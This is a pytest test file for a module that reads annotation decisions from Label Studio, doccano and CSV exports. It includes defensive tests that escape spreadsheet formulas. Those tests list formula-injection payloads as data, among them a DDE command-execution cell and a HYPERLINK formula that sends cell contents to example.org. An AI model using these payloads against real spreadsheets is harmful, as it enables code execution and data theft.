"""What reviewers decided, read from exports of Label Studio and doccano and from tables."""

import json
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from decisions import Answer, Decision, RefusedDecisionsError, defused, read_decisions, restored

NO_ANSWER_CHOICE = "The text does not answer the question"
# The emoji are one character each, and two UTF-16 units.
PARTY = "The 😀🎉 party\r\nwas in  Zürich, e\u0301t not in Oslo. It ended in Oslo."
HOSTILE = '<b>"x"&\'$id,;\n[]{}'


def write(path: Path, content: object) -> Path:
    path.write_text(content if isinstance(content, str) else json.dumps(content, ensure_ascii=False), encoding="utf-8")
    return path


# Label Studio


def mark(start: int, end: int, text: str, *class_names: str) -> dict:
    """A marked span as Label Studio 1.23.2 exports it."""
    return {
        "from_name": "answer", "to_name": "context", "type": "labels", "origin": "manual", "id": "Rdjusksz-N",
        "value": {"start": start, "end": end, "text": text, "labels": list(class_names or ["ANS"])},
    }  # fmt: skip


NO_ANSWER = {
    "from_name": "no_answer", "to_name": "context", "type": "choices", "id": "x", "origin": "manual",
    "value": {"choices": [NO_ANSWER_CHOICE]},
}  # fmt: skip


def exported(task: dict, *results: list, was_cancelled: bool = False) -> dict:
    """A task in the layout of a real export of Label Studio 1.23.2, an annotation a list of results."""
    annotations = [
        {
            "id": number, "completed_by": number, "result": result, "was_cancelled": was_cancelled,
            "ground_truth": False, "draft_created_at": None, "lead_time": 9.2,
            "prediction": {"id": 54, "result": [], "model_version": "given", "score": 0.1, "task": 27, "project": 1},
            "result_count": 1, "unique_id": "8b3857ee", "task": 27, "project": 1, "updated_by": 1,
        }
        for number, result in enumerate(results, start=1)
    ]  # fmt: skip
    return {
        "id": 27, "annotations": annotations, "drafts": [], "predictions": [53, 54], "data": task, "meta": {},
        "allow_skip": True, "inner_id": 27, "total_annotations": 1, "cancelled_annotations": 0, "comment_authors": [],
    }  # fmt: skip


@pytest.fixture
def tasks() -> list[dict]:
    """The data of three tasks, as they were imported."""
    return [
        {"id": HOSTILE, "text": PARTY, "title": "Title", "question": "Who?", "given": [[41, 45, "ANS"]]},
        {"id": "none", "text": "Nothing 😀 here", "title": "Title", "question": "Who?", "given": []},
        {"id": "plain", "text": "He wrote Ulysses in 1922", "title": "Title", "question": "Who?",
         "given": [[0, 2, "ANS"]]},
    ]  # fmt: skip


def test_annotations_are_decisions(tmp_path, tasks):
    export = [
        exported(tasks[0], [mark(22, 28, "Zürich")]),
        exported(tasks[1], [NO_ANSWER]),
        exported(tasks[2], [mark(0, 2, "He")], [mark(0, 2, "He")]),
    ]
    he = (Answer("He", 0, "ANS"),)
    assert read_decisions(write(tmp_path / "e.json", export)) == [
        Decision(HOSTILE, (Answer("Oslo", 41, "ANS"),), (Answer("Zürich", 22, "ANS"),)),
        Decision("none", (), ()),
        Decision("plain", he, he),
    ]


def test_skipped_tasks_and_those_not_begun_are_no_decision(tmp_path, tasks):
    export = [exported(tasks[0], [], was_cancelled=True), exported(tasks[1])]
    assert read_decisions(write(tmp_path / "e.json", export)) == []


def test_marked_line_end_and_margins_are_read(tmp_path, tasks):
    # The text as the browser gives it back, with its line end as "\\n".
    export = [exported(tasks[0], [mark(7, 18, "party\\n\\nwas ")])]
    (decision,) = read_decisions(write(tmp_path / "e.json", export))
    assert decision.correct == (Answer("party\r\nwas", 7, "ANS"),)


@pytest.mark.parametrize(
    ("results", "message"),
    [
        ([[]], "expected marked answers or the choice '.*', found neither"),
        ([[NO_ANSWER, mark(41, 45, "Oslo")]], "found that choice and 1 marks"),
        (
            [[mark(24, 30, "Zürich")]],
            "expected the marked text 'Zürich' at 24, found 'rich, '; offsets must count char",
        ),
        ([[mark(22, 28, "Zürich")], [mark(41, 45, "Oslo")]], "expected annotators to agree, found"),
        ([[mark(20, 21, " ")]], "expected an answer at 20, found white space only"),
        ([[mark(60, 90, "x")]], "expected a mark within the 64 characters"),
        ([[{**mark(0, 3, "The"), "value": {"start": 0, "end": 3}}]], r"expected marks \[start, end, class\]"),
    ],
)
def test_unclear_annotations_are_refused_by_id(tmp_path, tasks, results, message):
    export = [exported(tasks[2], [mark(0, 2, "He")]), exported(tasks[0], *results)]
    with pytest.raises(RefusedDecisionsError, match=message) as caught:
        read_decisions(write(tmp_path / "e.json", export))
    assert len(caught.value.problems) == 1
    assert caught.value.problems[0].startswith(f"example {HOSTILE!r}: ")


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ([{"id": 1, "answer": []}], r'expected \'data\' and \'annotations\', found .* in the format "JSON"'),
        ([{"data": {"text": "x"}, "annotations": []}], "task 1: expected the field 'id' as str"),
        ("[{]", "expected JSON"),
        ([{"data": {"id": "a", "text": "x", "given": []}, "annotations": [7]}], "expected the field 'result' as list"),
    ],
)
def test_other_exports_are_refused(tmp_path, content, message):
    with pytest.raises(ValueError, match=message):
        read_decisions(write(tmp_path / "e.json", content))


# doccano


@pytest.fixture
def lines() -> list[dict]:
    """Three lines as they were imported, with offsets in UTF-16 units: two emoji before the answer are two more."""
    party, he = [[43, 47, "ANS"]], [[0, 2, "ANS"]]
    return [
        {"id": HOSTILE, "text": PARTY, "label": party, "question": "Who?", "given": party},
        {"id": "none", "text": "Nothing 😀 here", "label": [], "question": "Who?", "given": []},
        {"id": "plain", "text": "He wrote Ulysses in 1922", "label": he, "question": "Who?", "given": he},
    ]


def test_doccano_export_is_read(tmp_path, lines):
    moved, nothing, confirmed = lines
    moved = {**moved, "label": [[24, 31, "ANS"]], "Comments": ["sure"]}
    export = "".join(json.dumps(line, ensure_ascii=False) + "\n" for line in (moved, nothing, confirmed))
    he = (Answer("He", 0, "ANS"),)
    assert read_decisions(write(tmp_path / "all.jsonl", export)) == [
        Decision(HOSTILE, (Answer("Oslo", 41, "ANS"),), (Answer("Zürich,", 22, "ANS"),)),
        Decision("none", (), ()),
        Decision("plain", he, he),
    ]


@pytest.mark.parametrize(
    ("label", "message"),
    [
        ([[5, 8, "ANS"]], "found 5, which cuts one in two.*grapheme"),
        ([[0, 99, "ANS"]], "expected an offset of 0 to 66, found 99"),
        ([[0, 3]], r"expected marks \[start, end, class\], found \[0, 3\]"),
        ([[3, 3, "ANS"]], "expected a mark within"),
    ],
)
def test_offsets_of_another_kind_are_refused(tmp_path, lines, label, message):
    line = {**lines[0], "label": label}
    with pytest.raises(RefusedDecisionsError, match=message) as caught:
        read_decisions(write(tmp_path / "e.jsonl", json.dumps(line)))
    assert repr(HOSTILE) in str(caught.value)


def test_doccanos_own_number_is_no_id(tmp_path):
    row = {"id": 15, "text": "x", "label": [], "given": []}
    with pytest.raises(
        ValueError, match=r"line 1: expected the field 'id' as str, .*import the file that this project"
    ):
        read_decisions(write(tmp_path / "e.jsonl", row))


# CSV

HEADER = "rank,id,given_answer,given_start,correct_answer,correct_start"


def read_csv(tmp_path: Path, content: str, encoding: str = "utf-8-sig") -> list[Decision]:
    (tmp_path / "issues.csv").write_bytes(content.encode(encoding))
    return read_decisions(tmp_path / "issues.csv")


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig"])
def test_csv_is_read_as_spreadsheets_save_it(tmp_path, delimiter, encoding):
    rows = [
        HEADER, "1,a,He,0,Ulysses,", "2,b,He,0,,", "3,c,He,0,[no answer],", "4,d,He,0,He,", "5,e,,,He,3.0",
        "6,f,Oslo,41.0, Oslo ,58", ",,,,,",
    ]  # fmt: skip
    content = "\r\n".join(row.replace(",", delimiter) for row in rows) + "\r\n"
    he = (Answer("He", 0),)
    assert read_csv(tmp_path, content, encoding) == [
        Decision("a", he, (Answer("Ulysses"),)),
        Decision("c", he, ()),
        Decision("d", he, he),
        Decision("e", (), (Answer("He", 3),)),
        Decision("f", (Answer("Oslo", 41),), (Answer("Oslo", 58),)),
    ]


@pytest.mark.parametrize(
    ("cell", "text"),
    [
        ("'=1+1", "=1+1"), ("'-5", "-5"), ("'@x", "@x"), ("'+3", "+3"), ("\"'\tx\"", "\tx"), ("'90s", "'90s"),
        ("''=x", "'=x"), ("-5", "-5"), ("x'=y", "x'=y"), ("' =1", " =1"), ("'＝1", "＝1"), ("''", "''"), ("''x", "''x"),
        ("\"'\n=1\"", "\n=1"), ("\"a\n'=b\"", "a\n'=b"),
    ],
)  # fmt: skip
def test_cells_that_were_defused_are_restored_and_others_left(tmp_path, cell, text):
    (decision,) = read_csv(tmp_path, f"{HEADER}\n1,{cell},{cell},7,{cell},\n")
    assert decision == Decision(text, (Answer(text, 7),), (Answer(text, 7),))


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", "+1", "-1", "-", "@SUM(A1)", "\t=1", "\tx", "\r=1", "\r\n=1", "\nx", " =1", "\u00a0=1",
        '=HYPERLINK("https://example.org/?"&A1,"x")', "=cmd|'/c calc'!A0", '=1+2";=1+2', "＝1+1", "＋1", "－1",
        "＠SUM(A1)", "\0=1", "'=1", "''@x", "' =1",
    ],
)  # fmt: skip
def test_formulas_are_defused(text):
    assert defused(text) == f"'{text}"
    assert restored(defused(text)) == text


@pytest.mark.parametrize(
    "text", ["", "'", "''", "'90s", "' x", "a=1", "1922", "(-1)", "–5", "− 5", "[no answer]", " x"]
)
def test_other_texts_stay_as_they_are(text):
    assert defused(text) == restored(text) == text


@given(st.text(st.sampled_from("'=+-@ \t\r\n\0＝xé") | st.characters(exclude_categories=["Cs"])))
def test_every_text_is_restored_as_it_was(text):
    cell = defused(text)
    assert restored(cell) == text
    assert not cell.strip().strip("\0").startswith(tuple("=+-@＝＋－＠"))
    assert not cell.startswith(("\t", "\r", "\n", "\0"))


def test_csv_cells_may_hold_delimiters_quotes_and_line_ends(tmp_path):
    (decision,) = read_csv(
        tmp_path, f'{HEADER}\r\n1,"{HOSTILE.replace(chr(34), chr(34) * 2)}",He,0,"a, ""b""\r\nc",\r\n'
    )
    assert decision == Decision(HOSTILE, (Answer("He", 0),), (Answer('a, "b"\r\nc'),))


def test_column_correct_start_may_be_missing(tmp_path):
    assert read_csv(tmp_path, "id,given_answer,given_start,correct_answer\na,He,0,Ulysses\n") == [
        Decision("a", (Answer("He", 0),), (Answer("Ulysses"),))
    ]


@pytest.mark.parametrize(
    ("row", "message"),
    [
        ("1,a,He,,Ulysses,", "example 'a' \\(row 2\\): expected given_answer and given_start as they were written"),
        ("1,a,He,0,Ulysses,3.5", "expected a whole number in correct_start, found '3.5'"),
        ("1,a,He,-1,Ulysses,", "expected a whole number in given_start, found '-1'"),
        ("1,a,He,0,,7", "fill in correct_answer too"),
    ],
)
def test_unclear_rows_are_refused_by_id(tmp_path, row, message):
    with pytest.raises(RefusedDecisionsError, match=message):
        read_csv(tmp_path, f"{HEADER}\n{row}\n")


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"id,given_answer,given_start\na,b,1\n", "expected one column 'correct_answer', found"),
        (b"", "expected one column 'id'"),
        (f"{HEADER}\n1,a,He\n".encode(), "row 2: expected 6 cells, found 3"),
        (f'{HEADER}\n1,a,"He\n'.encode(), "expected CSV"),
        (f"{HEADER}\n1,Zürich,He,0,x,\n".encode("cp1252"), 'expected UTF-8 text; .* Save a workbook as "CSV UTF-8"'),
        (b"PK\x03\x04", "expected JSON, JSON Lines or CSV, found an archive"),
    ],
)
def test_other_files_are_refused(tmp_path, content, message):
    (tmp_path / "x.csv").write_bytes(content)
    with pytest.raises(ValueError, match=message):
        read_decisions(tmp_path / "x.csv")
